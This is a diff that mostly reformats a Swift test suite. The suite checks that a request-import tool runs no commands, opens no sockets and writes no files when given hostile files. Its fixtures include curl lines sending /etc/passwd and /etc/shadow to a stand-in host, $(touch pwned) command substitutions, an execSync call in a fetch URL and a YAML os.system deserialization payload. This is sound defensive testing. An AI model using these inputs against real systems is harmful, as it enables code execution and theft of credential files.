@@ -6,20 +6,41 @@ import Testing
 struct NothingIsRunTests {
   /// Texts of each form that ask a shell, or a client, to run a program or to read a file.
   private static let hostile: [(name: String, text: String)] = [
-    ("a.sh", "curl https://h/$(touch pwned) -d @/etc/passwd -H \"A: `touch pwned`\" -F 'f=</etc/shadow' -K /etc/hosts --data-binary @canary -o pwned -b /etc/group"),
+    (
+      "a.sh",
+      "curl https://h/$(touch pwned) -d @/etc/passwd -H \"A: `touch pwned`\" -F 'f=</etc/shadow' -K /etc/hosts --data-binary @canary -o pwned -b /etc/group"
+    ),
     ("b.sh", "curl https://h/ -H @canary --json @canary --config canary --netrc-file canary; touch pwned"),
     ("c.sh", "curl \"https://h/${HOME}$(cat canary)\" -d \"$(<canary)\" && touch pwned | sh"),
     ("d.sh", "http POST https://h/ a=@canary b:=@canary c@canary 'X:@canary' @canary < canary"),
     ("e.sh", "http --form POST https://h/ a=!touch b='$(touch pwned)' c=`touch pwned`"),
-    ("f.http", "# @name x\n@v = {{$processEnv HOME}}\n< {% require('fs') %}\nPOST https://h/{{$dotenv X}}\n\n< ./canary\n<@ ./canary\n> {% client.global.set() %}\n"),
-    ("g.js", "fetch(`https://h/${require('child_process').execSync('touch pwned')}`, {body: eval('1'), headers: {'A': process.env.HOME}})"),
+    (
+      "f.http",
+      "# @name x\n@v = {{$processEnv HOME}}\n< {% require('fs') %}\nPOST https://h/{{$dotenv X}}\n\n< ./canary\n<@ ./canary\n> {% client.global.set() %}\n"
+    ),
+    (
+      "g.js",
+      "fetch(`https://h/${require('child_process').execSync('touch pwned')}`, {body: eval('1'), headers: {'A': process.env.HOME}})"
+    ),
     ("h.txt", "POST /$(touch pwned) HTTP/1.1\r\nHost: h\r\nX: `touch pwned`\r\n\r\n@canary"),
-    ("i.har", "{\"log\":{\"version\":\"1.2\",\"entries\":[{\"request\":{\"method\":\"POST\",\"url\":\"file:///etc/passwd\",\"headers\":[],\"postData\":{\"mimeType\":\"multipart/form-data\",\"params\":[{\"name\":\"f\",\"fileName\":\"canary\"}]}}}]}}"),
-    ("j.json", "{\"openapi\":\"3.0.0\",\"info\":{\"title\":\"t\"},\"paths\":{\"/p\":{\"$ref\":\"canary\",\"get\":{\"parameters\":[{\"$ref\":\"file:///etc/passwd\"},{\"$ref\":\"./canary#/x\"},{\"$ref\":\"http://h/x\"}]}}}}"),
-    ("k.yaml", "openapi: 3.0.0\ninfo: {title: !!python/object/apply:os.system ['touch pwned']}\npaths: {/p: {get: {x: !include canary}}}\n"),
+    (
+      "i.har",
+      "{\"log\":{\"version\":\"1.2\",\"entries\":[{\"request\":{\"method\":\"POST\",\"url\":\"file:///etc/passwd\",\"headers\":[],\"postData\":{\"mimeType\":\"multipart/form-data\",\"params\":[{\"name\":\"f\",\"fileName\":\"canary\"}]}}}]}}"
+    ),
+    (
+      "j.json",
+      "{\"openapi\":\"3.0.0\",\"info\":{\"title\":\"t\"},\"paths\":{\"/p\":{\"$ref\":\"canary\",\"get\":{\"parameters\":[{\"$ref\":\"file:///etc/passwd\"},{\"$ref\":\"./canary#/x\"},{\"$ref\":\"http://h/x\"}]}}}}"
+    ),
+    (
+      "k.yaml",
+      "openapi: 3.0.0\ninfo: {title: !!python/object/apply:os.system ['touch pwned']}\npaths: {/p: {get: {x: !include canary}}}\n"
+    ),
     ("l.txt", "file:///etc/passwd?a=$(touch pwned)"),
     ("m.txt", "a=$(touch pwned)\nb=@canary\n"),
-    ("n.json", "{\"wiredraft\": 1, \"method\": \"POST\", \"url\": \"https://h/\", \"parameters\": [{\"name\": \"a\", \"value\": \"$(touch pwned)\"}]}"),
+    (
+      "n.json",
+      "{\"wiredraft\": 1, \"method\": \"POST\", \"url\": \"https://h/\", \"parameters\": [{\"name\": \"a\", \"value\": \"$(touch pwned)\"}]}"
+    ),
   ]
 
   @Test(
@@ -32,13 +53,19 @@ struct NothingIsRunTests {
       try program.write(text, to: name)
       for words in [["import", name], ["import", name, "--list"]] {
         let (calls, result) = try TracedRuns.calls(
-          program, words, trace: "execve,execveat,fork,vfork,clone,clone3,open,openat,creat,unlink,rename,connect,socket")
-        #expect(calls.count { $0.contains("execve(") } == 1, "\(name): \(calls.filter { $0.contains("execve") })")
-        #expect(!calls.contains { $0.contains("fork(") || $0.contains("socket(") || $0.contains("connect(") }, "\(name)")
+          program, words,
+          trace: "execve,execveat,fork,vfork,clone,clone3,open,openat,creat,unlink,rename,connect,socket")
+        #expect(
+          calls.count { $0.contains("execve(") } == 1, "\(name): \(calls.filter { $0.contains("execve") })")
+        #expect(
+          !calls.contains { $0.contains("fork(") || $0.contains("socket(") || $0.contains("connect(") },
+          "\(name)")
         for call in calls where call.contains("open") && call.contains("\"") {
           let path = call.split(separator: "\"", omittingEmptySubsequences: false)[1]
           #expect(path == name[...] || Self.isOfSystem(path), "\(name): \(call)")
-          #expect(!call.contains("O_WRONLY") && !call.contains("O_CREAT") && !call.contains("O_RDWR") || path.hasPrefix("/dev/"), "\(call)")
+          #expect(
+            !call.contains("O_WRONLY") && !call.contains("O_CREAT") && !call.contains("O_RDWR")
+              || path.hasPrefix("/dev/"), "\(call)")
         }
         #expect(!String(decoding: result.output, as: UTF8.self).contains("CANARY"))
       }
@@ -65,8 +92,11 @@ struct NothingIsRunTests {
 
   /// What the system's own start of a program opens: libraries, locales, the terminal's description, entropy, its own maps.
   private static func isOfSystem(_ path: Substring) -> Bool {
-    ["/etc/ld.so", "/lib", "/usr/lib", "/usr/share/locale", "/usr/share/zoneinfo", "/etc/localtime", "/proc/", "/sys/", "/dev/", "/usr/share/terminfo", "/etc/terminfo"]
-      .contains { path.hasPrefix($0) }
+    [
+      "/etc/ld.so", "/lib", "/usr/lib", "/usr/share/locale", "/usr/share/zoneinfo", "/etc/localtime",
+      "/proc/", "/sys/", "/dev/", "/usr/share/terminfo", "/etc/terminfo",
+    ]
+    .contains { path.hasPrefix($0) }
   }
 
   @Test(
@@ -113,9 +143,12 @@ struct NothingIsRunTests {
     try program.write("x", to: "canary")
     let runs: [(words: [String], input: String)] =
       [
-        (["--plain"], session), (["methods"], ""), (["schema"], ""), (["glossary"], ""), (["lessons"], ""), (["--help"], ""),
-        (["render", "https://example.com/", "a=1"], ""), (["render", "n.json"], ""), (["check", "n.json"], ""),
-        (["compare", "https://example.com/", "a=1", "--with", "POST"], ""), (["open", "n.json", "--plain"], "wire\nquit\n"),
+        (["--plain"], session), (["methods"], ""), (["schema"], ""), (["glossary"], ""), (["lessons"], ""),
+        (["--help"], ""),
+        (["render", "https://example.com/", "a=1"], ""), (["render", "n.json"], ""),
+        (["check", "n.json"], ""),
+        (["compare", "https://example.com/", "a=1", "--with", "POST"], ""),
+        (["open", "n.json", "--plain"], "wire\nquit\n"),
       ] + Self.hostile.map { (["import", $0.name], "") }
     for run in runs {
       let (calls, _) = try TracedRuns.calls(program, run.words, trace: "network", input: run.input)
@@ -135,7 +168,10 @@ struct NothingIsRunTests {
       ["https://example.com/", "a=1"], folder: folder, environment: environment,
       through: ["strace", "-f", "-o", "trace.txt", "-e", "trace=network"])
     #expect(terminal.wait { $0.text.contains("Param") })
-    for keys in ["m", "p", "6", "7", "8", "9", "0", "\u{1B}", "ycc", "!", "\u{1B}", "\u{0F}", "\u{1B}", "\u{1B}OQ", "\u{1B}", "2o", "b\t2\r", "\u{13}", "\r"] {
+    for keys in [
+      "m", "p", "6", "7", "8", "9", "0", "\u{1B}", "ycc", "!", "\u{1B}", "\u{0F}", "\u{1B}", "\u{1B}OQ",
+      "\u{1B}", "2o", "b\t2\r", "\u{13}", "\r",
+    ] {
       let before = terminal.output.count
       terminal.type(Array(keys.utf8))
       _ = terminal.wait { $0.output.count > before }
